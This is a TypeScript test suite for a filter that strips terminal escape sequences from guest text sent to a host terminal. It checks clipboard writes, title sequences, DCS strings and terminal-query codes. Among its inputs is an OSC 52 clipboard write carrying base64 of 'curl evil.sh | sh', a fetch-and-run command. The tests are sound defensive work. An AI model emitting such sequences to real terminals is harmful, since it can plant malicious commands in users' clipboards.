/** Guest text on its way to a host terminal: control sequences that reach the terminal's parsers are removed. */
import assert from "node:assert/strict";
import { PassThrough } from "node:stream";
import { describe, it } from "node:test";
import fc from "fast-check";
import { guestTextSink, StrictTextFilter, TerminalFilter } from "../src/cli/terminal-filter.js";

const ESC = "\x1b";
const BEL = "\x07";
const ST = `${ESC}\\`;

const isC1 = (c: string) => c >= "\u0080" && c <= "\u009f";
/** A CSI sequence: parameters, intermediates, final byte (empty if unfinished). */
const CSI = new RegExp(`${ESC}\\[([0-?]*)([ -/]*)([@-~]?)`, "gu");

type Filter = TerminalFilter | StrictTextFilter;

/** Feed `chunks` through a fresh filter and return everything it printed. */
function run(make: () => Filter, ...chunks: (string | Buffer)[]): string {
  const f = make();
  const parts = chunks.map((c) => f.push(typeof c === "string" ? Buffer.from(c) : c));
  parts.push(f.end());
  return Buffer.concat(parts).toString("utf8");
}

const term = (...chunks: (string | Buffer)[]) => run(() => new TerminalFilter(), ...chunks);
const strict = (...chunks: (string | Buffer)[]) => run(() => new StrictTextFilter(), ...chunks);

/** `input` split in two at every byte boundary gives `expected` each time. */
function everySplit(make: () => Filter, input: string | Buffer, expected: string): void {
  const bytes = typeof input === "string" ? Buffer.from(input) : input;
  for (let i = 0; i <= bytes.length; i++) {
    assert.equal(run(make, bytes.subarray(0, i), bytes.subarray(i)), expected, `split at byte ${i}`);
  }
}

describe("TerminalFilter", () => {
  const osc52 = `${ESC}]52;c;${Buffer.from("curl evil.sh | sh").toString("base64")}${BEL}`;

  it("removes an OSC 52 clipboard write, also when split at any byte", () => {
    assert.equal(term(`before${osc52}after`), "beforeafter");
    everySplit(() => new TerminalFilter(), `before${osc52}after`, "beforeafter");
    everySplit(() => new TerminalFilter(), `a${ESC}]52;c;aGVsbG8=${ST}b`, "ab");
  });

  it("removes OSC title sequences ended by BEL, by ST and by C1 ST", () => {
    assert.equal(term(`x${ESC}]0;pwned${BEL}y`), "xy");
    assert.equal(term(`x${ESC}]2;pwned${ST}y`), "xy");
    assert.equal(term(`x${ESC}]2;pwned\u009cy`), "xy");
    assert.equal(term(`x${ESC}kscreen title${ST}y`), "xy");
  });

  it("removes DCS, SOS, PM and APC strings; BEL does not end them", () => {
    for (const intro of ["P", "X", "^", "_"]) {
      assert.equal(term(`a${ESC}${intro}payload${BEL}more${ST}b`), "ab", intro);
      everySplit(() => new TerminalFilter(), `a${ESC}${intro}1$qm${ST}b`, "ab");
    }
    assert.equal(term(`a${ESC}Ptmux;${ESC}${ESC}]52;c;eA==${BEL}${ST}b`), "ab");
  });

  it("an ESC inside a string ends it and starts a new sequence; CAN aborts it", () => {
    assert.equal(term(`a${ESC}]0;t${ESC}[31mred`), `a${ESC}[31mred`);
    assert.equal(term(`a${ESC}]0;t\x18b`), "ab");
  });

  it("removes 8-bit C1 strings, encoded as UTF-8 or as lone bytes", () => {
    assert.equal(term(`a\u009d52;c;eA==${BEL}b`), "ab");
    assert.equal(term(`a\u0090data\u009cb\u009fapc\u009cc\u009epm\u009cd\u0098sos\u009ce`), "abcde");
    const lone = Buffer.concat([
      Buffer.from("a"),
      Buffer.from([0x9d]),
      Buffer.from("0;title"),
      Buffer.from([0x07, 0x62]),
    ]);
    assert.equal(term(lone), "ab");
    everySplit(() => new TerminalFilter(), lone, "ab");
    // an 8-bit CSI is kept in its 7-bit form
    assert.equal(term("\u009b1mbold"), `${ESC}[1mbold`);
  });

  it("passes UTF-8 text unchanged, even split inside a character", () => {
    const text = "héllo — 日本 🎉\n";
    assert.equal(term(text), text);
    everySplit(() => new TerminalFilter(), text, text);
  });

  it("replaces invalid UTF-8 by U+FFFD", () => {
    assert.equal(term(Buffer.from([0x61, 0xff, 0x62, 0xe2, 0x82, 0x63, 0xc0, 0xaf])), "a\ufffdb\ufffdc\ufffd\ufffd");
    assert.equal(term(Buffer.from([0x61, 0xe2, 0x82])), "a\ufffd");
  });

  it("keeps colours, cursor movement, modes and plain controls", () => {
    const keep = [
      `${ESC}[1;31mred${ESC}[0m`,
      `${ESC}[38;2;10;20;30mtrue${ESC}[m`,
      `${ESC}[H${ESC}[2J${ESC}[10;5H${ESC}[3A${ESC}[K`,
      `${ESC}[?25l${ESC}[?25h${ESC}[?1049h${ESC}[?1049l${ESC}[?2004h`,
      `${ESC}[1;24r${ESC}7${ESC}8${ESC}(B${ESC}(0${ESC}=${ESC}>${ESC}M`,
      `${ESC}[2 q${ESC}[>4;1m`,
      "a\nb\r\nc\td\be\x07f\x0eg\x0f",
    ];
    for (const s of keep) {
      assert.equal(term(s), s);
      everySplit(() => new TerminalFilter(), s, s);
    }
  });

  it("drops CSI sequences that make the terminal answer or reconfigure its window", () => {
    const drop = [
      `${ESC}[c`,
      `${ESC}[0c`,
      `${ESC}[>c`,
      `${ESC}[=c`,
      `${ESC}[5n`,
      `${ESC}[6n`,
      `${ESC}[?6n`,
      `${ESC}[21t`,
      `${ESC}[8;1000;1000t`,
      `${ESC}[?1049$p`,
      `${ESC}[>q`,
      `${ESC}[?u`,
      `${ESC}[1;1;2;2*y`,
      `${ESC}[0x`,
      `${ESC}[?1;1S`,
      `${ESC}Z`,
      "\x05",
    ];
    for (const s of drop) {
      assert.equal(term(`a${s}b`), "ab", JSON.stringify(s));
      everySplit(() => new TerminalFilter(), `a${s}b`, "ab");
    }
  });

  it("drops malformed and overlong CSI sequences", () => {
    assert.equal(term(`a${ESC}[1$2mb`), "ab");
    assert.equal(term(`a${ESC}[1?5hb`), "ab");
    assert.equal(term(`a${ESC}[${"1;".repeat(100)}mb`), "ab");
  });

  it("drops an unterminated OSC streaming 50 MB without holding it, and prints again after its end", () => {
    const f = new TerminalFilter();
    assert.equal(f.push(Buffer.from(`start${ESC}]52;c;`)).toString(), "start");
    const junk = Buffer.alloc(64 << 10, "QUFBQUFB");
    global.gc?.();
    const before = process.memoryUsage().rss;
    for (let i = 0; i < (50 << 20) / junk.length; i++) assert.equal(f.push(junk).length, 0);
    const grown = process.memoryUsage().rss - before;
    assert.ok(grown < 20 << 20, `RSS grew by ${grown} bytes`);
    assert.equal(Buffer.concat([f.push(Buffer.from(`${BEL}resumed`)), f.end()]).toString(), "resumed");
  });

  it("property: output never holds a string introducer or a dropped CSI, and plain text survives", () => {
    const piece = fc.constantFrom(
      "text ",
      "日本",
      "🎉",
      ESC,
      "[",
      "]",
      "P",
      "_",
      "^",
      "X",
      "\\",
      BEL,
      "\u009b",
      "\u009d",
      "\u009c",
      "\u0090",
      "52;c;",
      "6n",
      "c",
      "31m",
      "\x18",
      "?",
      ">",
      ";",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), fc.nat(), (pieces, cut) => {
        const input = Buffer.from(pieces.join(""));
        const at = cut % (input.length + 1);
        const out = run(() => new TerminalFilter(), input.subarray(0, at), input.subarray(at));
        assert.equal(out, term(input), "the same output however the input is split");
        assert.ok(![...out].some(isC1), "no C1 control");
        assert.ok(!out.split(ESC).some((after, i) => i > 0 && "]PX^_kZ".includes(after.charAt(0))), "no string");
        // every CSI left in the output is complete and not on the drop list
        for (const m of out.matchAll(CSI)) {
          assert.notEqual(m[3], "", "an unfinished CSI is never printed");
          assert.doesNotMatch(m[3] as string, /[cntxyi]/u);
        }
        // the filter is idempotent: filtering its own output changes nothing
        assert.equal(term(out), out);
      }),
      { numRuns: 2000 },
    );
  });
});

describe("StrictTextFilter", () => {
  it("shows controls cat -v style and keeps \\n and \\t", () => {
    assert.equal(strict(`a${ESC}[31mred\r\n\tb\x00\x7f`), "a^[[31mred^M\n\tb^@^?");
    assert.equal(strict(`${ESC}]52;c;eA==${BEL}`), "^[]52;c;eA==^G");
    assert.equal(strict("\u009b\u009d\u0080\u009f"), "M-^[M-^]M-^@M-^_");
  });

  it("passes UTF-8 text unchanged, even split inside a character", () => {
    const text = "héllo — 日本 🎉\n";
    assert.equal(strict(text), text);
    everySplit(() => new StrictTextFilter(), text, text);
  });

  it("turns invalid UTF-8, lone C1 bytes included, into U+FFFD", () => {
    assert.equal(
      strict(Buffer.from([0x61, 0x9d, 0x62, 0xed, 0xa0, 0x80, 0x63, 0xf0, 0x9f])),
      "a\ufffdb\ufffd\ufffd\ufffdc\ufffd",
    );
    everySplit(() => new StrictTextFilter(), Buffer.from([0x61, 0x9b, 0xe6, 0x97, 0xa5]), "a\ufffd日");
  });

  it("property: the output is valid UTF-8 with no control but \\n and \\t", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 200 }), fc.nat(), (bytes, cut) => {
        const input = Buffer.from(bytes);
        const at = cut % (input.length + 1);
        const out = Buffer.from(run(() => new StrictTextFilter(), input.subarray(0, at), input.subarray(at)));
        const text = new TextDecoder("utf-8", { fatal: true }).decode(out);
        assert.ok(![...text].some((c) => (c < " " && c !== "\n" && c !== "\t") || c === "\x7f" || isC1(c)), text);
        assert.equal(text, strict(input));
      }),
      { numRuns: 2000 },
    );
  });
});

describe("guestTextSink", () => {
  const stream = (isTTY: boolean) => {
    const s = new PassThrough();
    const chunks: Buffer[] = [];
    s.on("data", (d: Buffer) => chunks.push(d));
    Object.assign(s, { isTTY });
    return { s: s as unknown as NodeJS.WriteStream, text: () => Buffer.concat(chunks).toString() };
  };
  const input = Buffer.from(`a${ESC}]0;t${BEL}${ESC}[31mb\r\n`);

  it("filters for a terminal", async () => {
    const t = stream(true);
    assert.equal(guestTextSink(t.s, "interactive")(input), true);
    const l = stream(true);
    guestTextSink(l.s, "log")(input);
    await new Promise((r) => setImmediate(r));
    assert.equal(t.text(), `a${ESC}[31mb\r\n`);
    assert.equal(l.text(), "a^[]0;t^G^[[31mb^M\n");
  });

  it("passes the exact bytes to a pipe or a file", async () => {
    const p = stream(false);
    guestTextSink(p.s, "interactive")(input);
    await new Promise((r) => setImmediate(r));
    assert.equal(p.text(), input.toString());
  });
});
